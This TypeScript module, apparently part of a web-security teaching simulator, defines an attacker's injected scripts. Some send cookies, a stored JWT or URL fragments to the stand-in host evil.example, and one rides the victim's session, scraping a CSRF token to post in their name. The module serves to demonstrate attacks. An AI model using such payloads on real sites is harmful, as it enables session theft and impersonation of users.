import type { Program, Programs } from '../engine/script/page-script.ts'
import { csrfHeader } from '../client-apps/settings.ts'

/**
 * What the Hacker's scripts do once they stand in a page of somebody else's. They know no more than
 * any script of that page.
 */

/** Where the Hacker's scripts send what they found. */
export const collector = 'https://evil.example/c'

const sends = (found: string): string => `${collector}?${new URLSearchParams({ found }).toString()}`

/** `new Image().src = … + document.cookie` */
const readsCookie: Program = async (page, event) => {
  if (event.type === 'load') await page.image(sends(page.cookie()))
}

/** `new Image().src = … + localStorage.getItem('jwt')` */
const readsLocalStorage: Program = async (page, event) => {
  if (event.type === 'load') await page.image(sends(page.localStorage.getItem('jwt') ?? ''))
}

/** `new Image().src = … + location.hash`, in a page of the Hacker's own. */
const readsFragment: Program = async (page, event) => {
  if (event.type === 'load') await page.image(sends(page.location.hash))
}

/** What the victim is made to say. */
const words = 'Everybody should look at https://evil.example'

/** A form's own token against forgery, as the page that has the form tells it to any script of its own. */
export const tokenIn = (html: string): string => /name="csrf" value="([^"]*)"/.exec(html)?.[1] ?? ''

/** Posts in the victim's name: the browser adds the cookies, and the script all that a form would. */
const ridesSession: Program = async (page, event) => {
  if (event.type !== 'load') return
  if (page.settings !== null) {
    const jwt = page.localStorage.getItem('jwt')
    await page.fetch('/api/posts', {
      method: 'POST',
      headers: [
        ['content-type', 'application/json'],
        [csrfHeader, '1'],
        ...(jwt === null ? [] : ([['authorization', `Bearer ${jwt}`]] as const)),
      ],
      body: JSON.stringify({ text: words }),
    })
    return
  }
  const form = await page.fetch('/posts/new')
  const csrf = form.ok ? tokenIn(form.body) : ''
  await page.fetch('/posts', {
    method: 'POST',
    headers: [['content-type', 'application/x-www-form-urlencoded']],
    body: new URLSearchParams({ text: words, csrf }).toString(),
  })
}

/** The Hacker's scripts, by the names that stand in pages. */
export const payloads: Programs = new Map([
  ['xss-reads-cookie', readsCookie],
  ['xss-reads-local-storage', readsLocalStorage],
  ['xss-rides-session', ridesSession],
  ['open-redirector', readsFragment],
])
